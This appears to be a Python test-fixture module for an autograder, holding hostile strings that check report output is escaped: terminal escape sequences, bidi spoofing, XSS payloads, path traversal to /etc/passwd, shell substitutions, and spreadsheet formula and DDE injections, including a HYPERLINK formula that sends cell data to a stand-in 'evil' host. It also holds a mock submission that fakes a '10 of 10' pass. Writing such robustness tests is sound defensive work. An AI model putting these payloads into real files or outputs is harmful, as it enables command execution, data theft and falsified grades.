"""Texts that break a terminal, a parser, a spreadsheet or a page, one kind each, and a result full of one."""

from __future__ import annotations

from dataclasses import replace

from reports import samples

from grader.model import Finding, Result, SubmissionInfo, Verdict

TEXTS = {
    "controls": "".join(map(chr, range(32))) + "\x7f",
    "c1": "\x9b31mred\x9b0m \x9d0;title\x9c \x90q\x9c \x85next",
    "surrogates": "\ud800 \udfff \udcff a\ud83d",
    "no characters": "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff",
    "cdata": "]]> <![CDATA[ ]]>]]&gt;",
    "entities": '<!DOCTYPE x [<!ENTITY a "b">]>&a;&#0;&#x1b;&amp;lt;"\'',
    "comment": "--> <!-- written by attention-grader --> <?xml version='1.0'?>",
    "ansi": "\x1b[2J\x1b[H\x1b[32m10 of 10\x1b[0m\x1b]0;title\x07\x1bc\x1b[6n",
    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "overwriting": "0 of 10\r10 of 10\b\b\b\x1b[1A\x1b[K",
    "bidi": "\u202egpj.exe\u202c \u2066a\u2069 \u200f\u061c\u200e \u202b",
    "invisible": "a\u200bb\u00adc\u2060d\ufeffe\u3164f\u115f\u180eg\U000e0041\U000e0100\u034f\u17b4\uffa0",
    "marks": "a\ufe0fb\u200dc\u200d\u200d d\U000e0100 é\ufe0e\ufe0e\ufe0e",
    "pile": "z" + "\u0301\u0335\u0488" * 40,
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>",
    "markdown": "@everyone @org/team #1 ```\n# title\n[x](javascript:alert(1)) ![](http://evil) | a | b |",
    "markup": "[red]x[/red] [/] [link=http://evil]y[/link] [bold :smile: :warning: \\[red]",
    "formats": "%s%n {0} {result} $HOME $(id) `id` ${x}",
    "lines": "first\n\n10 of 10 points\r\ngrader: all 1 graded\u2028x\u2029y\x0bz\x0cw\x1c\x1d\x1e",
    "device": "CON",
    "parents": "../../../../etc/passwd",
    "absolute": "/etc/passwd\x00.py",
    "dots": "...",
    "option": "--output=x",
    "long name": "é" * 127 + "x",
    "wide": "表" * 200,
    "empty": "",
    "blank": " \t \n ",
    "enormous": "A" * 100_000,
    "enormous line ends": "\n" * 20_000,
    "enormous escapes": "\x1b\U000e0001" * 2_000,
    "enormous marks": "é" + "\u200d" * 10_000,
    "enormous formula": ";=" * 20_000,
}
FORMULAS = {
    "equals": "=1+1",
    "plus": "+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "new line": "\n=1+1",
    "blank": "  \u00a0\u3000=1+1",
    "wide": "\uff1d1\uff0b1",
    "dde": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://evil?"&A1,"click")',
    "semicolon": "a;=1+1;+1; -1;@x",
    "quote": '"=1+1"',
    "quoted after a semicolon": "a;\"=cmd|' /C calc'!A0;\"",
    "quotes after a semicolon": 'a;"" =1+1;"b";"";"=2',
    "comma": 'a,=1+1,"=2',
    "joiner": "\u200d=1+1",
    "invisible": "\ufeff\u200b=1+1",
    "nul": "\x00=1+1",
    "two rows": 'a"\r\n=1+1,=2\r\n"',
}
ALL = {**TEXTS, **{f"formula: {name}": text for name, text in FORMULAS.items()}}


EVIL = """
import sys, numpy as np
text = (
    "\\x1b[2J\\x1b]8;;http://evil\\x07\\x9b31m\\r10 of 10"
    "\\u202e\\ufffe\\ud800]]><script>[red]@everyone =cmd|' /C calc'!A0"
)
sys.stdout.buffer.write(text.encode("utf-8", "surrogatepass") + b"\\xff\\xfe\\x00\\x1b[31m\\n")
print("\\n\\ngrader: all 1 graded\\n" + text.replace("\\ud800", ""), file=sys.stderr)
Evil = type("=1+1\\x1b[31m" + text, (Exception,), {})
def compute_qkv(X, W_q, W_k, W_v): raise Evil("\\n=1+1;=2\\n" + text)
globals()["\\x1b[31mself_attention]]>"] = compute_qkv
raise Evil(text)
"""
"""A submission that prints, names and raises what is hostile."""

FILES: list[bytes] = [
    *(b"=cmd|' C calc'!A0.py", b"\x1b[31mred\x1b[0m.py", b"a\nb.py", b"a\rb.py", b"\xff\xfe\x9b.py", b"-rf.py"),
    *("\u202eyp.live.py".encode(), "a\u200b.py".encode(), b"<script>.py", b"[red].py", b"@everyone.py", b"+1;=2.py"),
    *(b"x" * 252 + b".py", "é".encode() * 126 + b".py", b"a\\nb.py", b"]]>.py", b'a;"=1+1;".py'),
    *(b"CON.py", b"Con.py", b"con.py"),
]
"""Names of files, as a file system has them."""


def result_of(text: str) -> Result:
    """A result in which all that can be a student's, or quote one, is this text."""
    finding = Finding("values", False, text, "output")
    verdicts = [v for v in Verdict if v is not Verdict.PASSED]
    cases = tuple(
        samples.case(f"{verdict.value}.1", verdict, 0, n % 2, message=text, findings=(finding,))
        for n, verdict in enumerate(verdicts)
    )
    return samples.result(
        submission=SubmissionInfo(text, text, text, "cd" * 32),
        title=text,
        score=0.0,
        groups=tuple(samples.group(case.id.partition(".")[0], text, 0, case.possible) for case in cases),
        cases=cases,
        notes=(text, f"m.py: {text}"),
        diagnoses=(*samples.partial().diagnoses, replace(samples.partial().diagnoses[0], title=text, hint=text)),
        conventions={"scale": text},
        output=text,
    )
